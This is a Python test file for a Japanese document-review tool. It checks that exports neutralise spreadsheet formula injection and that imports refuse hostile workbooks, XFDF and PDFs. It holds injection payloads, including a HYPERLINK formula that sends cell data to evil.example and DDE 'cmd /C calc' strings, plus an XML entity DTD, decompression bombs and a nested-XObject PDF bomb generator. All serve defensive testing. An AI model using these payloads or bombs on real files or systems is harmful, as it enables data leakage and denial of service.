"""Reliability round 2 (issue 17): injection, hostile input files, limits, hangs and export safety.

Each test names the finding it covers; docs/RELIABILITY.md lists them with what the member sees.
"""

from __future__ import annotations

import csv
import io
import os
import time
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path

import pymupdf
import pytest

from reviewer.annotations import Annotation
from reviewer.errors import ReviewerError
from reviewer.exchange import PackageError
from reviewer.export.csv import write_csv
from reviewer.export.docx import write_docx
from reviewer.export.pdf import write_pdf
from reviewer.export.sheet import ANSWER_COLUMN, COLUMNS, SHEET_NAME, SheetRow, build_sheet, related_groups
from reviewer.export.xlsx import read_sheet_answers, write_xlsx

SHA = "e" * 64
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def comment(n: int, text: str, *, page: int = 0, rect: tuple[float, float, float, float] = (72, 100, 300, 114),
            author: str = "委員A", **kw: object) -> Annotation:
    fields: dict[str, object] = dict(
        file_sha256=SHA, file_name="packet.pdf", page=page, page_label=str(page + 1), kind="highlight",
        rects=[rect], category="意見", text=text, author=author, id=str(uuid.uuid5(uuid.NAMESPACE_DNS, f"r{n}")),
        created="2026-11-01T09:00:00.000Z", modified="2026-11-01T09:00:00.000Z", origin="imported",
    )
    fields.update(kw)
    return Annotation(**fields)  # type: ignore[arg-type]


def hostile_rows() -> list[SheetRow]:
    comments = [comment(i, text, quote=text, answer=text, sheet_text=None, page=i)
                for i, text in enumerate(HOSTILE)]
    return build_sheet(comments)


# ------------------------------------------------------------------------------------------ injection


def test_xlsx_writes_formula_like_comments_answers_and_quotes_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "sheet.xlsx"
    write_xlsx(hostile_rows(), out)
    ws = load_workbook(out)[SHEET_NAME]
    texts = {COLUMNS.index("意見・質問"), COLUMNS.index("引用"), COLUMNS.index(ANSWER_COLUMN)}
    seen = []
    for row in ws.iter_rows(min_row=2):
        for c in texts:
            assert row[c].data_type == "s", (row[c].coordinate, row[c].value)
        seen.append(row[COLUMNS.index("意見・質問")].value)
    # Text intact after the documented cleaning (a lone CR is a line break).
    assert sorted(seen) == sorted(t.replace("\r", "\n") for t in HOSTILE)
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_answer_formula_in_a_returned_sheet_comes_back_as_inert_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    rows = build_sheet([comment(1, "質問です")])
    sheet = tmp_path / "returned.xlsx"
    write_xlsx(rows, sheet)
    wb = load_workbook(sheet)
    ws = wb[SHEET_NAME]
    # The department typed a formula (openpyxl writes it as a live <f> cell, as Excel would).
    ws.cell(row=2, column=COLUMNS.index(ANSWER_COLUMN) + 1, value='=HYPERLINK("http://evil.example","ok")')
    wb.save(sheet)
    answers = read_sheet_answers(sheet)
    assert answers == {rows[0].id: '=HYPERLINK("http://evil.example","ok")'}
    again = tmp_path / "again.xlsx"
    write_xlsx(build_sheet([comment(1, "質問です", answer=answers[rows[0].id])]), again)
    cell = load_workbook(again)[SHEET_NAME].cell(row=2, column=COLUMNS.index(ANSWER_COLUMN) + 1)
    assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://evil.example","ok")'


def test_csv_escapes_formula_prefixes_per_owasp(tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    write_csv(hostile_rows(), out)
    raw = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows[0] == list(COLUMNS)
    text_at = COLUMNS.index("意見・質問")
    got = sorted(r[text_at] for r in rows[1:])
    assert got == sorted("'" + t.replace("\r", "\n") for t in HOSTILE)
    for line_fields in rows[1:]:
        assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in line_fields)
    # Every data field is quoted (OWASP), so a separator or quote inside never splits a field.
    data_lines = raw.split("\r\n")[1:]
    assert data_lines[0].startswith('"') and '",' in data_lines[0]


# ------------------------------------------------------------------------------------------ control characters

CONTROL_TEXT = "前\x00中\x07後\x1bと\x0cで\ud800終\x7f"
CLEANED = "前中後とで\ufffd終\x7f"  # DEL is valid XML: kept


def test_control_characters_and_lone_surrogates_are_cleaned_in_every_writer(tmp_path: Path) -> None:
    from docx import Document as open_docx
    from openpyxl import load_workbook

    rows = build_sheet([comment(1, CONTROL_TEXT, quote=CONTROL_TEXT, answer=CONTROL_TEXT, author="委\x01員")])
    write_xlsx(rows, tmp_path / "s.xlsx")
    write_docx(rows, tmp_path / "s.docx")
    write_pdf(rows, tmp_path / "s.pdf")
    write_csv(rows, tmp_path / "s.csv")
    ws = load_workbook(tmp_path / "s.xlsx")[SHEET_NAME]
    assert ws.cell(row=2, column=COLUMNS.index("意見・質問") + 1).value == CLEANED
    assert ws.cell(row=2, column=COLUMNS.index("委員") + 1).value == "委員"
    doc_text = "\n".join(c.text for row in open_docx(str(tmp_path / "s.docx")).tables[0].rows for c in row.cells)
    assert CLEANED in doc_text and "\x07" not in doc_text
    with pymupdf.open(tmp_path / "s.pdf") as pdf:
        assert "前中後とで" in pdf[0].get_text().replace("\n", "")
    csv_text = (tmp_path / "s.csv").read_text("utf-8-sig")
    assert CLEANED in csv_text and "\x00" not in csv_text


def test_corpus_file_with_control_characters_exports_to_every_format(tmp_path: Path, corpus_dir: Path) -> None:
    from docx import Document as open_docx
    from openpyxl import load_workbook

    from reviewer.exchange.pdf_annots import read_pdf_file

    source = corpus_dir / "annots" / "qna__samples-sample.pdf"
    if not source.is_file():
        pytest.skip("corpus file missing")
    annotations, _skipped = read_pdf_file(source, packet_sha=SHA, packet_name=source.name)
    assert any(any(ord(ch) < 32 and ch not in "\n\t" for ch in a.text) for a in annotations)
    rows = build_sheet(annotations)
    write_xlsx(rows, tmp_path / "q.xlsx")
    write_docx(rows, tmp_path / "q.docx")
    write_pdf(rows, tmp_path / "q.pdf")
    ws = load_workbook(tmp_path / "q.xlsx")[SHEET_NAME]
    assert ws.max_row == len(rows) + 1
    docx_cells = [c.text for row in open_docx(str(tmp_path / "q.docx")).tables[0].rows for c in row.cells]
    assert len(docx_cells) > len(rows)


# ------------------------------------------------------------------------------------------ export targets


def test_export_to_a_directory_is_a_message_and_creates_nothing(tmp_path: Path) -> None:
    target = tmp_path / "folder.xlsx"
    target.mkdir()
    with pytest.raises(ReviewerError) as caught:
        write_xlsx(hostile_rows(), target)
    assert "folder.xlsx" in caught.value.message_ja and "\n" not in caught.value.message_ja
    assert target.is_dir() and list(tmp_path.iterdir()) == [target]


def test_export_into_a_missing_folder_is_refused_not_created(tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "sheet.csv"
    with pytest.raises(ReviewerError) as caught:
        write_csv(hostile_rows(), target)
    assert "フォルダ" in caught.value.message_ja
    assert not (tmp_path / "no").exists()


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_export_into_a_read_only_folder_keeps_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno
    import tempfile

    folder = tmp_path / "ro"
    folder.mkdir()
    old = folder / "sheet.docx"
    old.write_bytes(b"old version")
    folder.chmod(0o500)
    if os.geteuid() == 0:  # root ignores folder permissions: fail the way the kernel would for a member

        def denied(*_args: object, **_kwargs: object) -> tuple[int, str]:
            raise PermissionError(errno.EACCES, "Permission denied")

        monkeypatch.setattr(tempfile, "mkstemp", denied)
    try:
        with pytest.raises(ReviewerError) as caught:
            write_docx(hostile_rows(), old)
        assert "書き込めません" in caught.value.message_ja
    finally:
        folder.chmod(0o700)
    assert old.read_bytes() == b"old version"


def test_export_onto_a_full_disk_is_a_message_and_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    old = tmp_path / "sheet.pdf"
    old.write_bytes(b"old version")
    real_fsync = os.fsync

    def full(fd: int) -> None:
        if os.path.basename(os.readlink(f"/proc/self/fd/{fd}")).startswith(".sheet.pdf."):
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(ReviewerError) as caught:
        write_pdf(hostile_rows(), old)
    assert "空き" in caught.value.message_ja and "\n" not in caught.value.message_ja
    assert old.read_bytes() == b"old version"
    assert [p.name for p in tmp_path.iterdir()] == ["sheet.pdf"]


@pytest.mark.skipif(os.name != "posix", reason="symlinks")
def test_export_onto_a_symlink_is_refused_and_the_link_kept(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    with pytest.raises(ReviewerError) as caught:
        write_csv(hostile_rows(), link)
    assert "リンク" in caught.value.message_ja
    assert link.is_symlink() and real.read_text(encoding="utf-8") == "old"


# ------------------------------------------------------------------------------------------ helpers for timing


def cost(work: Callable[[], object]) -> float:
    """CPU seconds of ``work`` (process time: other engineers' load on the box does not count)."""
    start = time.process_time()
    work()
    return time.process_time() - start


# ------------------------------------------------------------------------------------------ hostile workbooks


def rebuilt_sheet(tmp_path: Path, name: str, replace: dict[str, bytes], *, stored: bool = False) -> Path:
    """A real answered sheet with some parts replaced (``stored``: the new parts uncompressed)."""
    good = tmp_path / "good.xlsx"
    if not good.exists():
        write_xlsx(build_sheet([comment(1, "質問です", answer="回答です")]), good)
    out = tmp_path / name
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = replace.pop(info.filename, None)
            if data is None:
                target.writestr(info, source.read(info.filename))
            else:
                target.writestr(info.filename, data, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
        for extra, data in replace.items():
            target.writestr(extra, data)
    return out


def refused(path: Path) -> str:
    with pytest.raises(PackageError) as caught:
        read_sheet_answers(path)
    message = caught.value.message_ja
    assert path.name in message and "取り込めません" in message and "\n" not in message
    return message


def test_returned_sheet_is_read_before_hostile_parts_reach_the_parser(tmp_path: Path) -> None:
    good = rebuilt_sheet(tmp_path, "same.xlsx", {})
    assert list(read_sheet_answers(good).values()) == ["回答です"]
    sheet_xml = zipfile.ZipFile(good).read("xl/worksheets/sheet1.xml").decode("utf-8")
    answer_ref = "回答です".encode("ascii", "xmlcharrefreplace").decode()
    assert answer_ref in sheet_xml
    body = sheet_xml.split("?>", 1)[-1].replace(answer_ref, "&e;")
    entity = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e "展開された実体">]>' + body
    assert "DTD" in refused(rebuilt_sheet(tmp_path, "entity.xlsx", {"xl/worksheets/sheet1.xml": entity.encode()}))
    # The same in UTF-16LE without a BOM: the parser, not a byte search, sees the DOCTYPE.
    utf16 = entity.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-le")
    assert "DTD" in refused(rebuilt_sheet(tmp_path, "entity16.xlsx", {"xl/worksheets/sheet1.xml": utf16}))
    broken = sheet_xml[: len(sheet_xml) // 2].encode()
    assert "壊れています" in refused(rebuilt_sheet(tmp_path, "cut.xlsx", {"xl/worksheets/sheet1.xml": broken}))
    assert "壊れています" in refused(rebuilt_sheet(tmp_path, "styles.xlsx", {"xl/styles.xml": b"<styleSheet><"}))


def test_huge_shared_string_is_refused_before_parsing_with_little_memory(tmp_path: Path) -> None:
    import tracemalloc

    big = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' \
          b"<si><t>" + b"A" * (70 << 20) + b"</t></si></sst>"
    path = rebuilt_sheet(tmp_path, "bigstring.xlsx", {"xl/sharedStrings.xml": big})
    del big
    tracemalloc.start()
    try:
        message = refused(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "上限" in message and peak < 8 << 20
    long_string = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' \
                  b"<si><t>" + b"B" * 200_000 + b"</t></si></sst>"
    assert "文字を超える" in refused(rebuilt_sheet(tmp_path, "long.xlsx", {"xl/sharedStrings.xml": long_string}))


def test_millions_of_empty_rows_are_refused_quickly(tmp_path: Path) -> None:
    sheet_xml = zipfile.ZipFile(rebuilt_sheet(tmp_path, "base.xlsx", {})).read("xl/worksheets/sheet1.xml").decode()
    head, tail = sheet_xml.split("</sheetData>")
    # 50 million empty rows: ~1 GB of XML, a few MB zipped. Refused from the zip directory alone.
    many = "".join(f'<row r="{n}"/>' for n in range(3, 200_003))
    path = rebuilt_sheet(tmp_path, "rows.xlsx", {"xl/worksheets/sheet1.xml": (head + many + "</sheetData>" + tail).encode()})
    assert "行が多すぎます" in refused(path)
    huge = tmp_path / "fifty-million.xlsx"
    with zipfile.ZipFile(rebuilt_sheet(tmp_path, "base2.xlsx", {})) as source, \
            zipfile.ZipFile(huge, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, source.read(info.filename))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            stream.write(head.encode())
            chunk = b"<row/>" * 100_000
            for _ in range(500):  # 50,000,000 rows
                stream.write(chunk)
            stream.write(b"</sheetData>" + tail.encode())
    started = time.monotonic()
    assert "上限" in refused(huge)
    assert time.monotonic() - started < 5  # generous: the check reads the zip directory only


# ------------------------------------------------------------------------------------------ XFDF


def parse(xfdf: str | bytes, pages: int = 3) -> list[Annotation]:
    from reviewer.exchange.xfdf import page_matrix_for_height, parse_xfdf

    data = xfdf.encode("utf-8") if isinstance(xfdf, str) else xfdf
    return parse_xfdf(data, packet_sha=SHA, packet_name="packet.pdf",
                      page_matrices=[page_matrix_for_height(842)] * pages, origin_name="member.xfdf")


def xfdf_refused(xfdf: str | bytes) -> str:
    with pytest.raises(PackageError) as caught:
        parse(xfdf)
    message = caught.value.message_ja
    assert "member.xfdf" in message and "何も取り込んでいません" in message and "\n" not in message
    return message


XFDF_ENTITY = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE xfdf [<!ENTITY e "展開された実体">]>'
               '<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="10,10,20,20" title="A">'
               "<contents>&e;</contents></text></annots></xfdf>")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16", "utf-8-sig"])
def test_xfdf_entity_is_refused_in_any_encoding_bom_or_not(encoding: str) -> None:
    text = XFDF_ENTITY if encoding.startswith("utf-16") else XFDF_ENTITY.replace("UTF-16", "UTF-8")
    assert "DTD" in xfdf_refused(text.encode(encoding))


def test_xfdf_in_utf16_without_bom_and_without_entities_still_imports() -> None:
    plain = XFDF_ENTITY.replace('<!DOCTYPE xfdf [<!ENTITY e "展開された実体">]>', "").replace("&e;", "本文")
    (got,) = parse(plain.encode("utf-16-le"))
    assert got.text == "本文" and got.author == "A"


@pytest.mark.parametrize("page", ["²", "١", "1" * 5000, "-1", "1e3", "0x1"])
def test_xfdf_odd_page_numbers_are_refused_with_a_message(page: str) -> None:
    message = xfdf_refused(f'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="{page}" '
                           'rect="10,10,20,20" title="A"><contents>x</contents></text></annots></xfdf>')
    assert "ページ番号" in message


@pytest.mark.parametrize("rect", ["0,0,1e308,1e308", "-1e300,0,5,5", "0,0,1e6,10"])
def test_xfdf_absurd_coordinates_are_refused_on_read(rect: str) -> None:
    message = xfdf_refused(f'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><square page="0" rect="{rect}" '
                           'title="A"><contents>x</contents></square></annots></xfdf>')
    assert "範囲外" in message


def test_xfdf_comment_length_and_annotation_count_are_bounded() -> None:
    from reviewer.limits import MAX_ANNOTATIONS_PER_IMPORT, MAX_COMMENT_CHARS

    huge = "あ" * 20_000_000
    message = xfdf_refused('<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2" title="A">'
                           f"<contents>{huge}</contents></text></annots></xfdf>")
    assert "長すぎます" in message and f"{MAX_COMMENT_CHARS:,}" in message
    one = '<text page="0" rect="1,1,2,2" title="A"><contents>x</contents></text>'
    many = '<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots>' + one * (MAX_ANNOTATIONS_PER_IMPORT + 1) + "</annots></xfdf>"
    assert "多すぎます" in xfdf_refused(many)
    at_limit = parse('<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><text page="0" rect="1,1,2,2" title="A">'
                     f"<contents>{'い' * MAX_COMMENT_CHARS}</contents></text></annots></xfdf>")
    assert len(at_limit[0].text) == MAX_COMMENT_CHARS


# ------------------------------------------------------------------------------------------ related groups


def brute_force_groups(items: list[Annotation]) -> set[frozenset[str]]:
    """The definition: comments of different members on one page whose boxes overlap or whose quotes (two
    characters or more) contain one another are related; groups are the connected parts."""
    from reviewer.export.sheet import MIN_QUOTE_OVERLAP, _boxes_overlap

    def related(a: Annotation, b: Annotation) -> bool:
        if a.page != b.page or a.author == b.author:
            return False
        if len(a.quote) >= MIN_QUOTE_OVERLAP and len(b.quote) >= MIN_QUOTE_OVERLAP and (
                a.quote in b.quote or b.quote in a.quote):
            return True
        return any(_boxes_overlap(r, s) for r in a.rects for s in b.rects)

    parent = {a.id: a.id for a in items}

    def find(x: str) -> str:
        while parent[x] != x:
            x = parent[x]
        return x

    linked: set[str] = set()
    for i, a in enumerate(items):
        for b in items[i + 1:]:
            if related(a, b):
                parent[find(a.id)] = find(b.id)
                linked.update((a.id, b.id))
    parts: dict[str, set[str]] = {}
    for x in linked:
        parts.setdefault(find(x), set()).add(x)
    return {frozenset(p) for p in parts.values()}


def as_partition(groups: dict[str, int]) -> set[frozenset[str]]:
    parts: dict[int, set[str]] = {}
    for x, g in groups.items():
        parts.setdefault(g, set()).add(x)
    return {frozenset(p) for p in parts.values()}


from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

SMALL_COMMENT = st.tuples(
    st.integers(0, 1),  # page
    st.sampled_from(["A", "B", "C"]),  # author
    st.sampled_from(["", "あ", "あい", "あいう", "いう", "いうえ", "うえお", "あいうえお", "かき", "あいうえおかき",
                     "えお", "いうえお", "きく", "おかき"]),
    st.integers(0, 4), st.integers(0, 3),  # box: column, line
    st.booleans(),  # two lines
)


@settings(max_examples=1_000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(specs=st.lists(SMALL_COMMENT, max_size=16))
def test_related_groups_follow_the_definition(specs: list[tuple[int, str, str, int, int, bool]]) -> None:
    items = []
    for n, (page, author, quote, column, line, two) in enumerate(specs):
        rects = [(72.0 + 40 * column, 100.0 + 10 * line, 130.0 + 40 * column, 112.0 + 10 * line)]
        if two:
            rects.append((72.0, 112.0 + 10 * line, 300.0, 124.0 + 10 * line))
        items.append(comment(n, "x", page=page, author=author, quote=quote, rects=rects))
    assert as_partition(related_groups(items)) == brute_force_groups(items)


def sheet_comments(n: int, seed: int) -> list[Annotation]:
    """A packet's worth of comments: about 40 a page over n/40 pages, and a fifth of them on one hot line
    that every member highlighted (the same box, different parts of the line quoted)."""
    import random

    rnd = random.Random(seed)
    text = "特定個人情報の保管場所は施錠管理されたサーバ室であり、入退室記録を取得している。" * 4
    hot_line = text[:36]
    pages = max(1, n // 40)
    out = []
    for i in range(n):
        at, length = rnd.randrange(len(text) - 30), rnd.randrange(3, 30)
        if i % 5 == 0:
            page, rect = 0, (72.0, 300.0, 500.0, 312.0)
            at, length = rnd.randrange(30), rnd.randrange(2, 7)
            text_of_line = hot_line
        else:
            page = rnd.randrange(pages)
            y = rnd.uniform(60, 760)
            rect = (72.0, y, 72.0 + rnd.uniform(30, 420), y + 12.0)
            text_of_line = text
        out.append(comment(i, "x", page=page, rect=rect, author=f"委員{rnd.randrange(8)}",
                           quote=text_of_line[at:at + length], id=str(uuid.UUID(int=rnd.getrandbits(128)))))
    return out


def test_related_grouping_grows_near_linearly() -> None:
    small, large = sheet_comments(2_000, 1), sheet_comments(8_000, 2)
    cost(lambda: related_groups(small))  # warm-up
    t_small = min(cost(lambda: related_groups(small)) for _ in range(3))
    t_large = min(cost(lambda: related_groups(large)) for _ in range(3))
    assert t_large < 6 * max(t_small, 0.01), (t_small, t_large)
    assert len(set(related_groups(large).values())) >= 1


# ------------------------------------------------------------------------------------------ annotated PDF


@pytest.fixture
def one_page_pdf(tmp_path: Path) -> Path:
    path = tmp_path / "packet.pdf"
    with pymupdf.open() as doc:
        page = doc.new_page()
        page.insert_text((72, 72), "packet")
        page.add_text_annot((500, 700), "原本の注釈")  # the packet's own annotation must survive
        doc.save(path)
    return path


def test_annotated_pdf_survives_odd_rects_and_replies_from_the_store(one_page_pdf: Path, tmp_path: Path) -> None:
    from reviewer.export.annotated_pdf import write_annotated_pdf

    odd = [
        comment(1, "巨大", kind="area", rect=(0, 0, 1e308, 1e308)),
        comment(2, "NaN", kind="highlight", rect=(float("nan"), 10, 50, float("inf"))),
        comment(3, "逆向き", kind="note", rect=(300, 300, -5e9, -7)),
        comment(4, "返信が数値", kind="note", extra={"replies": 5}),
        comment(5, "返信が文字列", kind="area", extra={"replies": ["x", {"text": "本物の返信", "author": "B"}]}),
        comment(6, "制御\x00文字\x1b", kind="highlight", author="委\x07員"),
    ]
    out = tmp_path / "annotated.pdf"
    assert write_annotated_pdf(one_page_pdf, odd, out) == len(odd)
    with pymupdf.open(out) as doc:
        page = doc[0]
        annots = {a.info["id"]: a for a in page.annots()}
        assert {c.id for c in odd} <= set(annots)
        for c in odd:
            r = annots[c.id].rect
            assert page.rect.contains(r) or page.rect.intersects(r), (c.text, r)
        assert annots[odd[5].id].info["content"] == "制御文字"
        contents = [a.info["content"] for a in page.annots()]
        assert "本物の返信" in contents and "原本の注釈" in contents


def test_annotated_pdf_export_grows_linearly_with_progress(one_page_pdf: Path, tmp_path: Path) -> None:
    from reviewer.export.annotated_pdf import PROGRESS_EVERY, write_annotated_pdf

    def notes(n: int) -> list[Annotation]:
        return [comment(i, f"付箋{i}", kind="note" if i % 2 else "highlight", id=str(uuid.uuid4()),
                        rect=(72, 100 + (i % 50) * 12, 300, 112 + (i % 50) * 12)) for i in range(n)]

    small, large = notes(300), notes(1_200)
    seen: list[tuple[int, int]] = []
    t_small = cost(lambda: write_annotated_pdf(one_page_pdf, small, tmp_path / "s.pdf"))
    t_large = cost(lambda: write_annotated_pdf(one_page_pdf, large, tmp_path / "l.pdf",
                                               progress=lambda done, total: seen.append((done, total))))
    assert t_large < 6 * t_small, (t_small, t_large)
    assert seen[-1] == (1_200, 1_200) and len(seen) >= 1_200 // PROGRESS_EVERY
    with pymupdf.open(tmp_path / "l.pdf") as doc:
        ids = {a.info["id"] for a in doc[0].annots()}
    assert {c.id for c in large} <= ids


def test_annotated_pdf_export_can_be_cancelled_and_keeps_the_old_file(one_page_pdf: Path, tmp_path: Path) -> None:
    from reviewer.export.annotated_pdf import PROGRESS_EVERY, write_annotated_pdf

    out = tmp_path / "annotated.pdf"
    out.write_bytes(b"old")
    many = [comment(i, "x", id=str(uuid.uuid4())) for i in range(PROGRESS_EVERY * 2)]
    with pytest.raises(ReviewerError) as caught:
        write_annotated_pdf(one_page_pdf, many, out, cancelled=lambda: True)
    assert "中止" in caught.value.message_ja and out.read_bytes() == b"old"


# ------------------------------------------------------------------------------------------ quoting highlights


def test_xfdf_highlights_with_thousands_of_quads_cost_few_page_extractions(tmp_path: Path) -> None:
    from reviewer.exchange.pdf_annots import quote_on_page
    from reviewer.exchange.xfdf import page_matrix_for_height, parse_xfdf
    from reviewer.paths import bundled_font

    path = tmp_path / "text.pdf"
    with pymupdf.open() as doc:
        page = doc.new_page()
        for line in range(60):
            page.insert_text((40, 40 + line * 12), f"{line:02d}特定個人情報の保管場所は施錠管理されたサーバ室である。",
                             fontsize=9, fontfile=str(bundled_font()), fontname="jp")
        doc.save(path)
    with pymupdf.open(path) as doc:
        height = float(doc[0].rect.height)

        def quads(n: int, line0: int = 0) -> str:
            out = []
            for i in range(n):
                line = (line0 + i) % 60
                top, bottom = height - (30 + line * 12), height - (42 + line * 12)
                out.append(f"40,{top},200,{top},40,{bottom},200,{bottom}")
            return ",".join(out)

        one_big = ('<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><highlight page="0" rect="40,0,200,800" '
                   f'title="A" coords="{quads(4_000)}"><contents>x</contents></highlight></annots></xfdf>')
        many = '<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots>' + "".join(
            f'<highlight page="0" rect="40,0,200,800" title="A" name="h{i}" coords="{quads(1, i)}"/>'
            for i in range(1_000)) + "</annots></xfdf>"

        def run(xfdf: str) -> list[Annotation]:
            return parse_xfdf(xfdf.encode(), packet_sha=SHA, packet_name="text.pdf",
                              page_matrices=[page_matrix_for_height(height)],
                              quote=lambda p, rects: quote_on_page(doc[p], rects))

        extraction = min(cost(lambda: doc[0].get_text("text")) for _ in range(3))
        got: list[list[Annotation]] = []
        t_big = cost(lambda: got.append(run(one_big)))
        t_many = cost(lambda: got.append(run(many)))
    assert got[0][0].quote.startswith("00特定個人情報") and len(got[0][0].quote) > 4_000 * 15
    assert len(got[1]) == 1_000 and got[1][5].quote.startswith("05特定")
    budget = 500 * max(extraction, 0.002)  # today: ~40 and ~100; before: two extractions per quad (8,000)
    assert t_big < budget and t_many < budget, (extraction, t_big, t_many)


def test_annotated_pdf_import_bounds_comment_length_and_cuts_huge_rects(tmp_path: Path) -> None:
    from reviewer.exchange.pdf_annots import read_pdf_file
    from reviewer.limits import MAX_COMMENT_CHARS

    path = tmp_path / "member.pdf"
    with pymupdf.open() as doc:
        page = doc.new_page()
        annot = page.add_rect_annot(pymupdf.Rect(10, 10, 50, 50))
        annot.set_info(content="大きすぎる枠", title="委員A")
        annot.update()
        doc.xref_set_key(annot.xref, "Rect", "[0 0 1e30 1e30]")
        doc.save(path)
    (got,) = read_pdf_file(path, packet_sha=SHA, packet_name="packet.pdf")[0]
    x0, y0, x1, y1 = got.rects[0]
    assert 0 <= x0 <= x1 <= 595 and 0 <= y0 <= y1 <= 842, got.rects
    long_path = tmp_path / "long.pdf"
    with pymupdf.open() as doc:
        page = doc.new_page()
        page.add_text_annot((72, 72), "あ" * (MAX_COMMENT_CHARS + 1)).set_info(title="委員A")
        doc.save(long_path)
    with pytest.raises(PackageError) as caught:
        read_pdf_file(long_path, packet_sha=SHA, packet_name="packet.pdf")
    assert "長すぎます" in caught.value.message_ja and "何も取り込んでいません" in caught.value.message_ja


# ------------------------------------------------------------------------------------------ work budget


def nested_forms_pdf(levels: int, text_page: bool = True) -> bytes:
    """A PDF whose last page draws form X{levels}; each form draws the previous one twice (2**levels text
    shows from a few KB). With ``text_page`` a normal page with text comes first."""
    objects: list[bytes] = []

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    def stream(head: bytes, data: bytes) -> bytes:
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)

    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    form = add(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /Font << /F1 %d 0 R >> >>"
                      % font, b"BT /F1 8 Tf 10 10 Td (x) Tj ET"))
    for _ in range(levels):
        form = add(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X %d 0 R >> >>"
                          % form, b"q /X Do Q q 1 0 0 1 0.01 0 cm /X Do Q"))
    kids = []
    pages_ref = len(objects) + (4 if text_page else 2) + 1
    if text_page:
        text = add(stream(b"", b"BT /F1 12 Tf 72 700 Td (Readable page before the hostile one) Tj ET"))
        kids.append(add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 600 800] /Contents %d 0 R "
                        b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (pages_ref, text, font)))
    content = add(stream(b"", b"/Top Do"))
    kids.append(add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 600 800] /Contents %d 0 R "
                    b"/Resources << /XObject << /Top %d 0 R >> >> >>" % (pages_ref, content, form)))
    pages = add(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % k for k in kids), len(kids)))
    assert pages == pages_ref
    catalog = add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages)
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, catalog, start)
    return bytes(out)


def test_nested_xobject_bomb_is_set_aside_by_outline_and_search_cli(tmp_path: Path) -> None:
    import subprocess
    import sys

    bomb = tmp_path / "bomb.pdf"
    bomb.write_bytes(nested_forms_pdf(40))
    assert bomb.stat().st_size < 10_000
    env = {**os.environ, "PIA_REVIEWER_HOME": str(tmp_path / "profile")}
    for args in (["outline", str(bomb)], ["search", str(bomb), "Readable"]):
        done = subprocess.run([sys.executable, "-m", "reviewer", *args], check=False, capture_output=True, text=True,
                              timeout=120, env=env, cwd=Path(__file__).resolve().parents[2])
        assert done.returncode == 0, done.stderr
        if args[0] == "search":
            assert "1 件" in done.stdout  # the readable page is still indexed
        else:
            assert "2 ページ目は文字を読み取りませんでした" in done.stderr and "\n" not in done.stderr.strip()


